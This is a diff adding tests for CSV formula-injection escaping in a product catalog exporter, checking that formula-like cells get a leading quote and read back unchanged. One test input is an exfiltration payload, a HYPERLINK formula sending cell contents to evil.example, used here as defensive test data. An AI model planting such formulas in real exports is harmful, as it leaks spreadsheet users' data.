@@ -5,7 +5,8 @@ import { join } from 'node:path';
 import { describe, it } from 'node:test';
 import type { DynamoDBDocumentClient } from '@aws-sdk/lib-dynamodb';
 import { BatchWriteFailed, writeAll } from '../../src/catalog/batch-writer.js';
-import { csvHeader, productLine, readRows, type Row } from '../../src/catalog/files.js';
+import { parse } from 'csv-parse/sync';
+import { csvHeader, escapeFormula, productLine, readRows, unescapeFormula, type Row } from '../../src/catalog/files.js';
 import { generateProducts } from '../../src/catalog/generate.js';
 import { validateStored } from '../../src/catalog/product.js';
 
@@ -80,6 +81,55 @@ describe('CSV and JSON Lines', () => {
       String((header[0]?.record as { parseError: string } | undefined)?.parseError),
       /unknown column\(s\) colour/,
     );
+  });
+
+  it('escapes formula-like cells with a leading quote and reads them back unchanged', async () => {
+    const texts = [
+      '=HYPERLINK("http://evil.example/?"&A1,"x")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1)',
+      "'=already quoted by the user",
+      "''=two quotes",
+      '\tleading tab',
+      '=',
+      "'",
+      "'plain quote, kept",
+      'a=b, not a formula',
+    ];
+    const products = [...generateProducts(texts.length, 7)].map((p, i) => ({
+      ...p,
+      product_id: i === 2 ? '-starts-with-dash' : p.product_id,
+      // A name is one line: the tab goes in the description only.
+      name: (texts[i] ?? '').replace('\t', ''),
+      category: i % 2 === 0 ? '@home' : 'lamps',
+      description: texts[i] ?? '',
+    }));
+    const text = csvHeader() + products.map((p) => productLine(p, 'csv')).join('');
+    // What a spreadsheet sees: no cell starts with = + - @ or a tab.
+    const cells = (parse(text, { from_line: 2 }) as string[][]).flat();
+    assert.deepEqual(
+      cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
+      [],
+    );
+    assert.ok(cells.includes(`'=HYPERLINK("http://evil.example/?"&A1,"x")`));
+    assert.ok(cells.includes(`''=already quoted by the user`), "a user's own quote before = gets one more");
+    assert.ok(cells.includes(`'plain quote, kept`), 'a quote before anything else is left alone');
+    const rows = await collect(tmp('f.csv', text), 'csv');
+    rows.forEach((r, i) => {
+      const back = validateStored(r.record);
+      assert.ok(back.ok, `row ${i}: ${JSON.stringify(r.record)}`);
+      if (back.ok) assert.deepEqual(back.value, products[i]);
+    });
+  });
+
+  it("import reads a hand-written '= as =, as a spreadsheet shows it, and keeps any other leading quote", () => {
+    assert.equal(unescapeFormula(`'=1+1`), '=1+1');
+    assert.equal(unescapeFormula(`'-5`), '-5');
+    assert.equal(unescapeFormula(`'tis the season`), `'tis the season`);
+    assert.equal(unescapeFormula('=1+1'), '=1+1', 'an unescaped cell is read as it is');
+    for (const v of ['=x', `'=x`, `''@x`, `'x`, 'x', `'`, '', '-', '\tx', '\r\nx'])
+      assert.equal(unescapeFormula(escapeFormula(v)), v, JSON.stringify(v));
   });
 
   it('keeps prices exact through CSV', async () => {
